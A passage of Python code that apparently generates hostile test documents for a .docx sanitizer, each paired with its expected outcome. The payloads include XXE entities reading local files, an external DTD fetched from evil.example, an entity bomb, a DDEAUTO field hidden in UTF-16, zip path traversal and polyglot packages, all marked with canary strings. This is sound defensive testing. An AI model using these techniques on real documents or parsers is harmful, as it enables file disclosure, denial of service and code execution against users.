    story("namespace-alias", d, "The usual prefix means another namespace, another prefix the usual one.", "Names are compared by namespace.", "2.1 XML")
    d = Document(p(TEXT) + '<zz:wrap xmlns:zz="urn:zz" mc:Ignorable="zz" mc:ProcessContent="zz:wrap">' + p("残る段落") + '<zz:script>TZCANARY-script</zz:script></zz:wrap>' + p('<zz:r xmlns:zz="urn:zz">TZCANARY-unknown</zz:r>'))
    story("unknown-elements", d, "Elements nobody knows, one with mc:ProcessContent.", "They go with their content, but for what mc:ProcessContent shows.", "2.1 XML")
    for case, head, what in [("doctype-entity", '<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/TZCANARY">]>', "An external entity (XXE)."),
                             ("doctype-bomb", '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "TZCANARY"><!ENTITY b "&a;&a;&a;&a;">]>', "Entities that multiply."),
                             ("encoding-utf7", '<?xml version="1.0" encoding="UTF-7"?>', "A part in UTF-7."), ("encoding-latin", '<?xml version="1.0" encoding="ISO-8859-1"?>', "A part in another charset."),
                             ("xml-1.1", '<?xml version="1.1"?>', "XML 1.1 with its further control characters.")]:
        d = Document(p("TZCANARY-text"))
        d.parts[d.main] = d.parts[d.main].replace(HEAD.encode(), head.encode())
        story(case, d, what, "The document is withheld.", "2.1 XML")
    d = Document(p("TZCANARY-text"))
    entries = [(n, b.replace(HEAD.encode(), b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://evil.example/TZCANARY.dtd">') if n == "_rels/.rels" else b) for n, b in d.entries()]
    story("doctype-relationships", d, "A document type in the relationships.", "The document is withheld.", "2.1 XML", data=zip_of(entries))
    d = Document(p(TEXT) + p(field("DDEAUTO TZCANARY-utf16")))
    d.parts[d.main] = d.parts[d.main].decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    story("encoding-utf16", d, "A part in UTF-16 hides a field from byte searches.", "Read, washed, written as UTF-8.", "2.1 XML")
    deep = "<w:sdt><w:sdtContent>" * 300 + p("TZCANARY-deep") + "</w:sdtContent></w:sdt>" * 300
    story("deep-nesting", Document(deep), "Six hundred elements deep.", "The document is withheld.", "2.0 bomb")
    many = "<w:p " + " ".join(f'w:a{i}="TZCANARY"' for i in range(2000)) + "/>"
    story("attribute-flood", Document(many), "Two thousand attributes on one element.", "The document is withheld.", "2.0 bomb")
    d = Document("TZCANARY-x")
    d.parts[d.main] = d.parts[d.main][:-30]
    story("not-well-formed", d, "The main part ends in the middle.", "The document is withheld.", "2.1 XML")
    flat = f'{HEAD}<?mso-application progid="Word.Document"?><pkg:package xmlns:pkg="{MICROSOFT}/2006/xmlPackage"><pkg:part pkg:name="/word/document.xml"><pkg:xmlData><w:document xmlns:w="{W}">TZCANARY-flat</w:document></pkg:xmlData></pkg:part></pkg:package>'
    story("flat-opc", None, "A package as one XML file.", "It is not washed as a document.", "2.1 package", "xml", flat.encode())


def package():
    d = Document(p(TEXT))
    entries = d.entries()
    again = ("word/document.xml", f"{HEAD}<w:document {SPACES}><w:body>{p('TZCANARY-second')}</w:body></w:document>".encode())
    raw = [containers.Entry(n.encode(), b) for n, b in entries]
    story("duplicate-names", None, "Two parts of one name.", "The document is withheld.", "2.1 package", data=containers.zip_file(raw + [containers.Entry(*(again[0].encode(), again[1]))]))
    story("case-only-duplicates", None, "Two parts whose names differ in case only.", "The document is withheld.", "2.1 package", data=containers.zip_file(raw + [containers.Entry(b"word/Document.XML", again[1])]))
    story("prefix-bytes", None, "A program stands before the package.", "The document is withheld, or what stands before it is gone.", "2.0 polyglot", data=b"MZTZCANARY-prefix" + bytes(64) + zip_of(entries))
    story("bytes-behind", None, "Bytes stand behind the package.", "The document is withheld, or they are gone.", "2.0 polyglot", data=zip_of(entries) + b"TZCANARY-behind" * 3)
    story("zip-comment", None, "The package has a comment.", "It goes.", "2.1 package", data=zip_of(entries, b"TZCANARY-comment"))
    lie = zip_of(entries)
    at = lie.find(b"word/document.xml")
    story("local-name-differs", None, "Local and central header name different parts.", "The document is withheld.", "2.1 package", data=lie[:at] + b"word/TZCANARY.xml" + lie[at + 17:])
    story("path-outside", None, "A part is called ../TZCANARY.", "The document is withheld, or the part is gone.", "2.1 package", data=zip_of(entries + [("../TZCANARY-up.xml", b"TZCANARY")]))
    d = Document(p(TEXT) + p(r(picture("rIdImg"))))
    d.image(rel_id="rIdImg")
    d.rel(d.main, "header", "/", rel_id="rIdS")
    d.rel(d.main, "footer", "../../TZCANARY.xml", rel_id="rIdU")
    d.rel(d.main, "image", "media/TZCANARY-missing.png", rel_id="rIdM")
    d.rel(d.main, "theme", "#TZCANARY", rel_id="rIdG")
    story("relationships-nowhere", d, "Relationships to the root, above it, to nothing, to a fragment.", "They go; the good one stays.", "2.1 package")
    d = Document(p(TEXT))
    d.rel("", "officeDocument", "word/second.xml")
    d.part("word/second.xml", f"{HEAD}<w:document {SPACES}><w:body>{p('TZCANARY-second')}</w:body></w:document>", MAIN)
    story("two-main-parts", d, "Two main parts: programs differ on which one is shown.", "The document is withheld.", "2.1 package")
    d = Document(p(TEXT))
    d.types.clear()
    d.defaults["xml"] = MAIN
    story("content-type-defaults", d, "All content types are one default: every part is said to be the document.", "Roles come from relationships; content types are written anew.", "2.1 package")


def make(root):
    make.root = root
    fields()
    macros()
    outside()
    links()
    objects()
    xml()
    package()
